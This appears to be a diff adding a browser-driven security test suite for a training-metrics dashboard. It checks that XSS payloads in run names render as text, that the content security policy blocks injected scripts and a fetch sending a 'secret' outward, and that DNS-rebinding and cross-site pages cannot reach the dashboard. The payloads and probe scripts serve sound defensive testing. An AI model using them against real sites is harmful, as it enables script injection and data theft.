@@ -1,0 +1,384 @@
+"""Attacks on the dashboard with a real browser: from names in a run, and from pages of others."""
+
+from __future__ import annotations
+
+import http.server
+import threading
+from collections.abc import Iterator
+from functools import partial
+from pathlib import Path
+from typing import Any, Literal
+
+import pytest
+from playwright.sync_api import Browser, Frame, Page
+
+import distlab as dl
+from distlab.control.loops import loops
+from distlab.page import report
+from distlab_dashboard import DashboardServer, exports, serve
+from tests.conftest import FLAGS
+from tests.synthetic import ListSource
+from tests.ui.conftest import Pages, Served
+from tests.ui.test_people import PAGES
+from tests.ui.waiting import wait_until
+from tests.wicked import ATTACK, wicked_run
+
+WATCH = """
+window.violations = []
+document.addEventListener("securitypolicyviolation", (event) => {
+  window.violations.push(`${event.violatedDirective}: ${event.blockedURI} ${event.sample}`)
+})
+"""
+FOREIGN_MARKUP = """
+() => {
+  const found = [], places = [document]
+  for (const place of places) {
+    for (const element of place.querySelectorAll("*")) {
+      if (element.shadowRoot) places.push(element.shadowRoot)
+      const script = element.localName === "script" && element.textContent.startsWith("window.att")
+      if (script || element.matches("img[src=x], [onerror], [onload], [href^='javascript:']")) {
+        found.push(element.outerHTML.slice(0, 200))
+      }
+    }
+  }
+  return found
+}
+"""
+
+
+def hover(page: Page) -> None:
+    """Moves the mouse over every chart that is shown, so that its tooltips open."""
+    for canvas in page.locator("section:not([hidden]) canvas").all():
+        box = canvas.bounding_box()
+        if box is None or box["width"] < 40:
+            continue
+        for place in range(1, 8):
+            across, down = box["width"] * place / 8, box["height"] * (0.2 + 0.08 * place)
+            page.mouse.move(box["x"] + across, box["y"] + down)
+
+
+@pytest.fixture(scope="module")
+def wicked_source() -> ListSource:
+    made = ListSource(wicked_run())
+    made.live = False
+    return made
+
+
+@pytest.fixture(scope="module")
+def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DashboardServer]:
+    """A folder with two runs whose names are attacks, as far as files can have such names."""
+    root = tmp_path_factory.mktemp("wicked")
+    for name in ("<img src=x onerror='window.attacked = true'>", "<b>second"):
+        with dl.record(root / name) as recording:
+            for step in range(3):
+                recording.log(step, **{"loss": 1.0, ATTACK: 2.0})
+    made = serve(root)
+    yield made
+    made.stop()
+
+
+@pytest.mark.timeout(600)
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_no_text_of_a_run_is_ever_markup_and_no_page_breaks_its_policy(
+    wicked_source: ListSource,
+    served: Served,
+    new_page: Pages,
+    scheme: Literal["light", "dark"],
+) -> None:
+    server = served(wicked_source)
+    watched = new_page(scheme=scheme)
+    page = watched.page
+    page.add_init_script(WATCH)
+    watched.open(server.url)
+    watched.wait_for_text("steps", "40 of 40")
+    for name in PAGES:
+        if name in {"runs", "compare"}:
+            continue
+        watched.tab(name)
+        page.wait_for_function("() => Bokeh.documents[0].is_idle")
+        hover(page)
+        if name == "events":
+            page.wait_for_selector(".events tbody button")
+            page.click(".events tbody button")
+            page.wait_for_selector(".whole")
+    assert "onerror" in page.locator("[data-text=run]").first.inner_text()
+    assert page.evaluate(FOREIGN_MARKUP) == []
+    assert page.evaluate("window.attacked") is None
+    assert page.evaluate("window.violations") == []
+    assert watched.warnings == []
+
+
+@pytest.mark.timeout(600)
+def test_names_of_files_and_metrics_are_text_on_the_pages_of_a_folder(
+    library: DashboardServer, new_page: Pages
+) -> None:
+    watched = new_page()
+    page = watched.page
+    page.add_init_script(WATCH)
+    watched.open(library.url)
+    page.wait_for_selector(".runs tbody tr:nth-child(2)")
+    assert page.evaluate(FOREIGN_MARKUP) == []
+    page.click(".compare-runs")
+    page.wait_for_selector("html[data-shown=compare]")
+    hover(page)
+    for name in PAGES:
+        watched.tab(name)
+    assert page.evaluate(FOREIGN_MARKUP) == []
+    assert page.evaluate("window.attacked") is None
+    assert page.evaluate("window.violations") == []
+
+
+def test_no_text_is_markup_in_an_exported_page(
+    wicked_source: ListSource, tmp_path: Path, new_page: Pages
+) -> None:
+    path = tmp_path / "run.html"
+    report.write(wicked_source, ATTACK, path)
+    watched = new_page()
+    page = watched.page
+    page.add_init_script(WATCH)
+    page.goto(path.as_uri())
+    page.wait_for_selector("html[data-ready=true]")
+    watched.foreign.clear()  # the file itself
+    for name in PAGES:
+        if name not in {"runs", "compare", "events"}:
+            page.click(f'nav a[data-page="{name}"]')
+            page.wait_for_selector(f'section[data-page="{name}"]:not([hidden])')
+            hover(page)
+    assert page.evaluate(FOREIGN_MARKUP) == []
+    assert page.evaluate("window.attacked") is None
+    assert page.evaluate("window.violations") == []
+
+
+def test_the_policy_stops_what_would_get_through(
+    library: DashboardServer, browser: Browser
+) -> None:
+    """A hole in the page would have to get past the browser as well."""
+    page = browser.new_page()
+    page.add_init_script(WATCH)
+    page.goto(library.url)
+    page.wait_for_selector("html[data-ready=true]")
+    page.evaluate(
+        """() => {
+          const script = document.createElement("script")
+          script.textContent = "window.attacked = true"
+          document.body.append(script)
+          const image = document.createElement("div")
+          image.innerHTML = "<img src=x onerror='window.attacked = true'>"
+          document.body.append(image)
+          const elsewhere = document.createElement("script")
+          elsewhere.src = "http://127.0.0.1:1/x.js"
+          document.body.append(elsewhere)
+          const base = document.createElement("base")
+          base.href = "http://127.0.0.1:1/"
+          document.head.append(base)
+        }"""
+    )
+    page.wait_for_function("window.violations.length >= 4")
+    assert page.evaluate("window.attacked") is None
+    sent = page.evaluate(
+        "fetch('http://127.0.0.1:1/?secret', {mode: 'no-cors'}).then(() => 'sent', () => 'kept')"
+    )
+    assert sent == "kept"
+    directives = {one.split(":")[0] for one in page.evaluate("window.violations")}
+    assert {"script-src-elem", "script-src-attr", "base-uri", "connect-src"} <= directives
+    page.close()
+
+
+class Elsewhere:
+    """A web server of another site, on a port of its own."""
+
+    def __init__(self, folder: Path) -> None:
+        quiet = type("Quiet", (http.server.SimpleHTTPRequestHandler,), {"log_message": _nothing})
+        handler = partial(quiet, directory=str(folder))
+        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+        self._folder = folder
+        self.port = self._server.server_address[1]
+        threading.Thread(target=self._server.serve_forever, daemon=True).start()
+
+    def page(self, html: str) -> str:
+        """Serves a page, and returns its address."""
+        (self._folder / "page.html").write_text(f"<!doctype html>{html}")
+        return f"http://127.0.0.1:{self.port}/page.html"
+
+    def stop(self) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+
+
+def _nothing(*args: object) -> None:
+    pass
+
+
+@pytest.fixture
+def elsewhere(tmp_path: Path) -> Iterator[Elsewhere]:
+    folder = tmp_path / "elsewhere"
+    folder.mkdir()
+    made = Elsewhere(folder)
+    yield made
+    made.stop()
+
+
+class Training:
+    """A controlled loop of this process, in a thread, and the dashboard of it."""
+
+    def __init__(self, folder: Path) -> None:
+        self.recording = dl.record(folder)
+        self.loop = dl.controlled(range(1_000_000), name="attacked")
+        self._go_on = threading.Event()
+        self._thread = threading.Thread(target=self._train)
+        self._thread.start()
+        self.server = serve(self.recording)
+
+    def _train(self) -> None:
+        for _ in self.loop:
+            if self._go_on.wait(0.005):
+                break
+
+    @property
+    def state(self) -> str:
+        return next((one.state for one in loops() if one.name == "attacked"), "done")
+
+    def end(self) -> None:
+        self._go_on.set()
+        self._thread.join(30)
+        self.server.stop()
+        self.recording.close()
+
+
+@pytest.fixture
+def training(tmp_path: Path) -> Iterator[Training]:
+    made = Training(tmp_path / "run")
+    yield made
+    made.end()
+
+
+TRY_ALL = """
+async (base) => {
+  const said = []
+  const get = async (path, options) => {
+    try {
+      const answer = await fetch(base + path, options)
+      const status = answer.type === "opaque" ? "opaque" : answer.status
+      said.push(`${path} ${status} ${await answer.text()}`)
+    } catch { said.push(`${path} failed`) }
+  }
+  for (const path of ["", "health", "export/trace.json", "export/run.html"]) {
+    await get(path, {credentials: "include"})
+    await get(path, {mode: "no-cors", credentials: "include"})
+  }
+  const socket = await new Promise((done) => {
+    const one = new WebSocket(base.replace("http", "ws") + "ws", ["bokeh", "e30"])
+    one.onopen = () => done("open")
+    one.onerror = () => done("refused")
+  })
+  return [...said, socket]
+}
+"""
+
+
+def test_a_rebound_name_reaches_nothing(
+    training: Training, chromium: Path, browser: Browser, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A page of evil.test, whose name has come to stand for this machine since it was loaded."""
+    made: list[object] = []
+    monkeypatch.setattr(exports, "_write", lambda *given: made.append(given))
+    # Newer Chromiums ask before a page reaches this machine; others must not need to.
+    flags = [
+        *(*FLAGS, "--disable-features=LocalNetworkAccessChecks"),
+        "--host-resolver-rules=MAP evil.test 127.0.0.1",
+    ]
+    rebound = browser.browser_type.launch(executable_path=str(chromium), args=flags)
+    try:
+        page = rebound.new_page()
+        base = f"http://evil.test:{training.server.port}/"
+        answer = page.goto(base)
+        assert answer is not None
+        assert answer.status == 403
+        assert "does not answer as evil.test" in page.inner_text("body")
+        page.route(f"{base}from-evil", lambda route: route.fulfill(body="<p>evil"))
+        page.goto(f"{base}from-evil")
+        *said, socket = page.evaluate(TRY_ALL, base)
+        assert socket == "refused"
+        assert [one for one in said if " 403 " not in one] == []
+        assert not any("cursor" in one or "training" in one for one in said)
+        assert made == []
+        assert training.state == "running"
+    finally:
+        rebound.close()
+
+
+def test_a_page_of_another_site_reaches_nothing(
+    training: Training,
+    elsewhere: Elsewhere,
+    browser: Browser,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    made: list[object] = []
+    monkeypatch.setattr(exports, "_write", lambda *given: made.append(given))
+    url = training.server.url
+    page = browser.new_page()
+    page.goto(
+        elsewhere.page(
+            f"<img src='{url}export/trace.json'><img src='{url}'>"
+            f"<script src='{url}health'></script>"
+            f"<link rel=stylesheet href='{url}'>"
+            f"<form method=post action='{url}export/run.html'><button>send</button></form>"
+            f"<a href='{url}export/trace.json'>file</a> <a href='{url}'>page</a>"
+        )
+    )
+    *said, socket = page.evaluate(TRY_ALL, url)
+    assert socket == "refused"
+    assert {one.rpartition(" ")[0].partition(" ")[2] or one for one in said} <= {"opaque"} | {
+        f"{path} failed" for path in ("", "health", "export/trace.json", "export/run.html")
+    }
+    page.click("text=file")
+    page.get_by_text("Not from there").wait_for()
+    page.go_back()
+    page.click("text=send")
+    page.wait_for_url(f"{url}export/run.html")
+    assert made == []
+    assert training.state == "running"
+    page.go_back()
+    page.click("text=page")  # a link to the page is what people send each other
+    page.wait_for_selector("html[data-ready=true]")
+    page.close()
+
+
+def frame_of(page: Page) -> Frame:
+    wait_until(lambda: len(page.frames) == 2, "the frame")
+    return page.frames[1]
+
+
+def test_a_page_of_another_site_shows_it_in_no_frame(
+    training: Training, elsewhere: Elsewhere, browser: Browser
+) -> None:
+    page = browser.new_page()
+    texts: list[str] = []
+    page.on("console", lambda message: texts.append(message.text))
+    page.goto(elsewhere.page(f"<iframe src='{training.server.url}' width=900 height=700></iframe>"))
+    wait_until(lambda: any("frame" in text for text in texts), "the browser's refusal")
+    assert page.frames[1].locator(".loops").count() == 0
+    page.close()
+
+
+def test_pages_of_its_own_origin_and_of_named_hosts_show_it_in_a_frame(
+    training: Training, elsewhere: Elsewhere, browser: Browser
+) -> None:
+    """As Jupyter does, behind whose proxy page and dashboard have one origin."""
+    frame = "<iframe src='{}' width=900 height=700></iframe>"
+    named = serve(training.recording, origins=(f"127.0.0.1:{elsewhere.port}",))
+    page = browser.new_page()
+    try:
+        url = training.server.url
+        page.route(f"{url}lab", lambda route: _fulfil(route, frame.format(url)))
+        for address in (f"{url}lab", elsewhere.page(frame.format(named.url))):
+            page.goto(address)
+            frame_of(page).wait_for_selector("html[data-ready=true]")
+            frame_of(page).locator(".loops [data-order=pause]").wait_for()
+    finally:
+        page.close()
+        named.stop()
+
+
+def _fulfil(route: Any, body: str) -> None:
+    route.fulfill(body=f"<!doctype html>{body}", content_type="text/html")
